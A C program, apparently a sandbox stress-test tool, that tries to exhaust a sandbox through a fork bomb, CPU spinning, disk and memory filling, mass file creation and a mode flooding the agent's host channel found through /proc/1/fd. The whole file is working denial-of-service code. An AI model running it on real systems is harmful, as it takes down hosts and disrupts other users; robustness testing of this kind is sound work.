// Takes as much as it can of one resource, until its sandbox is destroyed: attack cpu|fork|disk|memory|files|touch|flood LINE.
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define BLOCK (1 << 20)

static char block[BLOCK];

static void split(int doublings) {
  while (doublings-- > 0) fork();
}

static void cpu(void) {
  split(3);
  for (volatile unsigned long n = 0;; n++) {}
}

static void bomb(void) {
  for (;;) fork();
}

// Fills the disk, flushes it, and starts again.
static void disk(void) {
  memset(block, 'x', sizeof block);
  for (;;) {
    int file = open("/tmp/fill", O_CREAT | O_WRONLY | O_TRUNC, 0600);
    for (int n = 1; write(file, block, sizeof block) > 0; n++)
      if (n % 64 == 0) fsync(file);
    close(file);
  }
}

// One process grows until it is killed; the other starts the next one.
static void memory(void) {
  for (;;) {
    pid_t child = fork();
    if (child == 0)
      for (;;) {
        char *more = malloc(BLOCK);
        if (more != NULL) memset(more, 'x', BLOCK);
      }
    if (child < 0 || waitpid(child, NULL, 0) < 0) usleep(1000);
  }
}

static void files(void) {
  char path[64];
  split(2);
  for (unsigned long n = 0;; n++) {
    if (n % 1000 == 0) {
      snprintf(path, sizeof path, "/tmp/%d-%lu", getpid(), n / 1000);
      mkdir(path, 0700);
    }
    snprintf(path, sizeof path, "/tmp/%d-%lu/%lu", getpid(), n / 1000, n);
    int file = open(path, O_CREAT | O_WRONLY, 0600);
    if (file >= 0) write(file, "x", 1), close(file);
  }
}

static void touch(void) {
  mkdir("/tmp/watched", 0755);
  for (unsigned long n = 0;; n++) {
    char path[64];
    snprintf(path, sizeof path, "/tmp/watched/%lu", n % 100);
    close(open(path, O_CREAT | O_WRONLY, 0600));
    unlink(path);
  }
}

// Writes the line to the agent's end of the channel, as root can.
static void flood(const char *line) {
  char path[288], target[64];
  int end = -1;
  struct dirent *entry;
  DIR *ends = opendir("/proc/1/fd");
  while (ends != NULL && (entry = readdir(ends)) != NULL) {
    snprintf(path, sizeof path, "/proc/1/fd/%s", entry->d_name);
    ssize_t length = readlink(path, target, sizeof target);
    if (length >= 5 && strncmp(target, "host:", 5) == 0) {
      int opened = open(path, O_WRONLY);
      if (opened >= 0) end = opened;
    }
  }
  size_t size = 0, length = strlen(line);
  while (size + length + 1 <= sizeof block) {
    memcpy(block + size, line, length);
    size += length;
    block[size++] = '\n';
  }
  while (write(end, block, size) > 0) {}
  perror("flood");
}

int main(int count, char **words) {
  const char *kind = count > 1 ? words[1] : "";
  puts("attacking");
  fflush(stdout);
  if (strcmp(kind, "cpu") == 0) cpu();
  if (strcmp(kind, "fork") == 0) bomb();
  if (strcmp(kind, "disk") == 0) disk();
  if (strcmp(kind, "memory") == 0) memory();
  if (strcmp(kind, "files") == 0) files();
  if (strcmp(kind, "touch") == 0) touch();
  if (strcmp(kind, "flood") == 0 && count > 2) flood(words[2]);
  return 1;
}
